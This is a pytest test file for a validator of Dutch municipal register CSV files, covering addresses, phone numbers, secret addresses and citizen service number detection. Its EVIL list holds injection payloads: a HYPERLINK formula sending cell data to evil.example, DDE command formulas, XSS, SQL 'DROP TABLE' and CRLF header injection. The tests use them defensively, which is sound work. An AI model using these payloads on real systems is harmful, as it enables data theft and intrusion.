"""Rows of a register file: what is good, what is not, and that every reason is given."""

import csv
import io
from itertools import islice
from typing import Any

import phonenumbers
import pytest

from app.panel.citizen_numbers import passes_eleven_test
from app.panel.sample_file_cells import CellError, a_phone, an_email
from app.panel.sample_file_columns import SampleMapping
from app.panel.sample_file_report import fault_lines, summary
from app.panel.sample_file_rows import Checked, Fault, check_rows, harmless, report
from tests.unit.panel.register_files import GOOD, RULES, check, csv_of, person

EVIL = [
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "'; DROP TABLE person; --",
    "\u202egnp.exe",
    "a\x00b",
    "a\r\nBcc: x@example.org",
    "\ufffd\ufffd",
]


NUMBERS = ["111222333", "123456782", "012345672", "12345672"]


def reasons(people: list[dict[str, str]], **mapping: Any) -> list[tuple[int, str, str]]:
    checked = check(people, SampleMapping(**mapping) if mapping else None)
    return [(one.row, one.column, one.found) for one in checked.faults]


def test_good_row_goes_apart_into_contact_and_frame() -> None:
    row = person(
        telefoon="06 - 1234 5678",
        email="S.Tesfay@Example.ORG",
        geslacht="V",
        geboortedatum="19900500",
    )
    (good,) = check([row]).rows
    assert good.contact == {
        "name": "S.B. Tesfay",
        "street": "Kerkplein",
        "house_number": "12",
        "postcode": "3512 AB",
        "city": "Utrecht",
        "phone": "+31612345678",
        "email": "S.Tesfay@example.org",
        "register_key": "D0001",
    }
    assert good.frame == {
        "fr_group": "asiel",
        "fr_act": "wi2021",
        "fr_sex": "vrouw",
        "fr_birth_year": "1990",
    }


def test_headers_may_be_the_numbers_of_the_brp() -> None:
    row = {
        "01.02.10": "Selam",
        "01.02.40": "Tesfay",
        "08.11.10": "Kerkplein",
        "08.11.20": "12",
        "08.11.60 Postcode": "3512AB",
        "08.11.70": "Utrecht",
        "groep": "asiel",
        "wet": "wi2021",
    }
    assert check([row]).good


def test_whole_name_of_a_street_goes_before_the_short_one() -> None:
    (good,) = check([person(naamopenbareruimte="Burgemeester van Tuyllplein")]).rows
    assert good.contact["street"] == "Burgemeester van Tuyllplein"


def test_place_without_a_street_is_described() -> None:
    (good,) = check(
        [person(straatnaam="", huisnummer="", locatiebeschrijving="Woonboot 't Hoekje")]
    ).rows
    assert good.contact["location"] == "Woonboot 't Hoekje"
    assert "street" not in good.contact


def test_address_abroad_has_a_country_by_its_dutch_name_and_any_postcode() -> None:
    (good,) = check([person(land="DE", postcode="10115", woonplaats="Berlin")]).rows
    assert (good.contact["country"], good.contact["postcode"]) == ("Duitsland", "10115")


def test_people_with_a_secret_address_are_left_out_and_counted_and_nothing_of_them_is_kept() -> (
    None
):
    checked = check([person(1, geheim="0"), person(2, geheim="7", postcode="fout")])
    assert checked.good
    assert [row.contact["register_key"] for row in checked.rows] == ["D0001"]
    assert checked.left_out == {"secret address": 1}


@pytest.mark.parametrize(
    ("cells", "column"),
    [
        ({"postcode": "1234 SA"}, "postcode"),
        ({"postcode": ""}, "postcode"),
        ({"woonplaats": ""}, "woonplaats"),
        ({"straatnaam": ""}, "straatnaam"),
        ({"huisnummer": "12-mrt"}, "huisnummer"),
        ({"huisnummer": ""}, "huisnummer"),
        ({"geslachtsnaam": ".", "voornamen": "."}, "geslachtsnaam"),
        ({"geslachtsnaam": "JosÃ©"}, "geslachtsnaam"),
        ({"groep": "vluchteling"}, "groep"),
        ({"groep": ""}, "groep"),
        ({"sleutel": ""}, "sleutel"),
        ({"sleutel": "1,23E+08"}, "sleutel"),
        ({"telefoon": "0612"}, "telefoon"),
        ({"telefoon": "6,12E+08"}, "telefoon"),
        ({"email": "a@b"}, "email"),
        ({"geboortejaar": "90"}, "geboortejaar"),
        ({"gemeente": "Nergenshuizen"}, "gemeente"),
        ({"naamgebruik": "X"}, "naamgebruik"),
        ({"geheim": "misschien"}, "geheim"),
        ({"straatnaam": "x" * 81}, "straatnaam"),
        ({"straatnaam": "x" * 300}, "straatnaam"),
    ],
)
def test_faulty_cell_is_named_by_row_and_column(cells: dict[str, str], column: str) -> None:
    found = reasons([person(1), person(2, **cells)])
    assert [(row, name) for row, name, _ in found] == [(3, column)]


def test_all_faults_of_all_rows_are_given_at_once_and_no_row_is_kept() -> None:
    checked = check([person(1, postcode="x", email="x"), person(2), person(3, groep="x")])
    assert [(one.row, one.column) for one in checked.faults] == [
        (2, "email"),
        (2, "postcode"),
        (4, "groep"),
    ]
    assert (checked.rows, checked.faulty_rows, checked.read) == ([], 2, 3)


def test_row_with_more_cells_than_the_header_is_a_fault() -> None:
    text = csv_of([person(1)]).rstrip("\n") + ";extra\n"
    assert [(one.row, one.found) for one in check(text).faults] == [(2, "10 cells")]


def test_person_who_stands_twice_is_a_fault_by_key_and_a_warning_by_likeness() -> None:
    twice = person(1)
    assert reasons([twice, person(2), dict(twice)]) == [(4, "sleutel", "the key of row 2 again")]

    alike = check([twice, {**twice, "sleutel": "D0009"}])
    assert alike.good
    assert [(one.row, one.found) for one in alike.warnings] == [
        (3, "name, address and birth year of row 2")
    ]


@pytest.mark.parametrize(
    "header",
    [
        "BSN",
        "bsn",
        "bsnr",
        "service number",
        "01.20 Burgerservicenummer",
        "Burgerservicenummer",
        "Sofi-nummer",
        "A-nummer",
        "01.01.20",
        "BSN kind",
    ],
)
def test_column_of_citizen_service_numbers_is_refused_by_its_header(header: str) -> None:
    found = reasons([person(1, **{header: "x"})])
    assert found[0][1] == header
    assert "never holds" in found[0][2]
    # Also when somebody says to leave it out: the file itself may not lie about.
    assert reasons([person(1, **{header: "x"})], ignore=frozenset({header}))


def test_column_of_citizen_service_numbers_is_refused_by_its_numbers_whatever_its_name() -> None:
    # 111222333: 9·1+8·1+7·1+6·2+5·2+4·2+3·3+2·3 = 69; 69 - 3 = 66 = 6·11.
    assert all(map(passes_eleven_test, NUMBERS))
    found = reasons([person(at, sleutel=one) for at, one in enumerate(NUMBERS)])
    assert any(name == "sleutel" and "BSN" in what for _, name, what in found)


@pytest.mark.parametrize(
    "written",
    ["'{}", '"{}"', "{}.0", "NL{}", "{}-1"],
    ids=["apostrophe", "quoted", "decimal", "lettered", "suffixed"],
)
def test_citizen_service_numbers_are_found_in_what_a_spreadsheet_makes_of_them(
    written: str,
) -> None:
    people = [
        person(at, sleutel=written.format(one)) for at, one in enumerate(NUMBERS) if len(one) == 9
    ]
    found = reasons(people)
    assert any(name == "sleutel" and "BSN" in what for _, name, what in found)


def test_citizen_service_numbers_between_other_keys_are_found_or_pointed_at() -> None:
    most = [f"K{at}" if at % 8 == 0 else str(one) for at, one in enumerate(passing(60))]
    found = reasons([person(at, sleutel=one) for at, one in enumerate(most)])
    assert any(name == "sleutel" and "BSN" in what for _, name, what in found)
    few = ["123456782", "111222333", *(f"K{at}" for at in range(40))]
    checked = check([person(at, sleutel=one) for at, one in enumerate(few)])
    assert checked.good
    assert "sleutel" in [one.column for one in checked.warnings if "BSN" in one.found]


@pytest.mark.parametrize(
    ("column", "text"),
    [("straatnaam", "Kerkplein 123456782"), ("email", "123456782@example.org")],
)
def test_one_citizen_service_number_where_no_number_belongs_is_a_fault(
    column: str, text: str
) -> None:
    (found,) = reasons([person(1, **{column: text})])
    assert (found[1], "BSN" in found[2]) == (column, True)


def passing(count: int) -> list[int]:
    every = (one for one in range(200_000_000, 300_000_000, 7) if passes_eleven_test(str(one)))
    return list(islice(every, count))


def test_nine_digits_that_pass_by_chance_are_no_citizen_service_numbers() -> None:
    keys = [str(100_000_000 + at) for at in range(200)]
    assert 10 < sum(map(passes_eleven_test, keys)) < 30
    assert not reasons([person(at, sleutel=one) for at, one in enumerate(keys)])


def test_column_without_a_meaning_is_refused_until_it_is_given_one_or_left_out() -> None:
    row = person(1, Uitkering="ja", K2="vrouw")
    assert [name for _, name, _ in reasons([row])] == ["Uitkering", "K2"]
    assert not reasons([row], ignore=frozenset({"Uitkering"}), columns={"K2": "fr_sex"})


def test_words_of_an_office_become_words_of_the_study() -> None:
    mapping = SampleMapping(
        values={"fr_group": {"AM": "asiel"}}, constants={"fr_act": "wi2013"}, strata=("fr_group",)
    )
    row = {name: value for name, value in person(1, groep="am").items() if name != "wet"}
    (good,) = check([row], mapping).rows
    assert (good.frame["fr_group"], good.frame["fr_act"]) == ("asiel", "wi2013")


def test_column_of_the_mapping_that_is_not_there_is_a_fault() -> None:
    assert [name for _, name, _ in reasons([person(1)], columns={"Adress": "street"})] == ["Adress"]


@pytest.mark.parametrize("evil", EVIL)
def test_evil_in_any_cell_is_refused_by_row_or_kept_as_text_and_never_shown(evil: str) -> None:
    for column in GOOD:
        checked = check([person(1), person(2, **{column: evil})])
        shown = report([*checked.faults, *checked.warnings])
        if evil.isprintable():
            assert evil not in shown
        if checked.good:
            # The key of a register may be anything; a name may end in an invisible mark, dropped.
            assert checked.warnings or "\u202e" in evil or column == "sleutel"
        else:
            assert {one.row for one in checked.faults} == {3}


@pytest.mark.parametrize("evil", EVIL)
def test_evil_in_a_header_is_a_fault_that_calculates_nothing_in_the_report(evil: str) -> None:
    header = [*GOOD, evil]
    cells = [*GOOD.values(), "x"]
    checked = check_rows(header, iter([(2, cells)]), SampleMapping(), RULES)

    assert not checked.good
    for line in csv.reader(io.StringIO(report(checked.faults))):
        for cell in line:
            assert cell.isprintable()
            assert cell[:1] not in "=+-@＝" or not cell
            assert "<" not in cell


def test_text_for_people_is_one_harmless_line() -> None:
    assert harmless("=1+1") == "'=1+1"
    assert harmless(" @x") == "' @x"
    assert harmless("a\x1b[2Jb\nc") == "a?[2Jb?c"


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("0612345678", "+31612345678"),
        ("612345678", "+31612345678"),
        ("+31 (0)6 12345678".replace("(0)", ""), "+31612345678"),
        ("0031612345678", "+31612345678"),
        ("030-2345678", "+31302345678"),
        ("+49 30 901820", "+4930901820"),
        ("00963944567890", "+963944567890"),
    ],
)
def test_telephone_number_becomes_e164(typed: str, expected: str) -> None:
    assert a_phone(typed) == expected


def test_short_way_for_dutch_mobile_numbers_agrees_with_the_library() -> None:
    for start in range(60, 70):
        typed = f"0{start}2345678"
        library = phonenumbers.is_valid_number(phonenumbers.parse(typed, "NL"))
        try:
            ours = a_phone(typed) == f"+31{typed[1:]}"
        except CellError:
            ours = False
        assert ours == library, typed


@pytest.mark.parametrize(
    "text", ["a@b", "@b.nl", "a b@c.nl", "a@b..nl", "a@-b.nl", "a@b.nl,c@d.nl"]
)
def test_what_is_no_email_address_is_refused(text: str) -> None:
    with pytest.raises(CellError):
        an_email(text)


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("geslachtsnaam", "حداد", True),
        ("voornamen", "ሰላም", True),
        ("straatnaam", "Вулиця Сагайдачного", True),
        ("woonplaats", "Αθήνα", True),
        ("geslachtsnaam", "Yıldız-Çelik", False),
        ("geslachtsnaam", "Nguyễn", False),
        ("geslachtsnaam", "d'Ålesund-Łoś", False),
    ],
)
def test_letters_that_dutch_post_cannot_read_are_said_and_kept(
    column: str, value: str, said: bool
) -> None:
    checked = check([person(1), person(2, **{column: value})])

    assert checked.good
    assert [(one.row, one.column) for one in checked.warnings] == ([(3, column)] if said else [])


def test_same_fault_in_many_rows_is_one_line_in_the_order_of_rows() -> None:
    faults = [
        *(Fault(row, "Taal", "another word", "one of nl, ar") for row in range(711, 11, -1)),
        Fault(4, "postcode", "nothing", "a postcode"),
        Fault(9, "(row)", "3 cells", "9, as in the header"),
        Fault(1, "x", "a column without a meaning", "--ignore"),
    ]

    assert list(fault_lines("Wrong", faults)) == [
        "Wrong: column x: found a column without a meaning, expected --ignore",
        "Wrong: row 4: column postcode: found nothing, expected a postcode",
        "Wrong: row 9: found 3 cells, expected 9, as in the header",
        "Wrong: row 12 and 699 more rows: column Taal: found another word, expected one of nl, ar",
    ]


def test_summary_speaks_of_the_file_where_no_row_is_wrong() -> None:
    checked = Checked(faults=[Fault(1, "x", "a column without a meaning", "--ignore")], read=60)
    assert summary(checked) == "1 fault of the file as a whole; 60 rows were read."
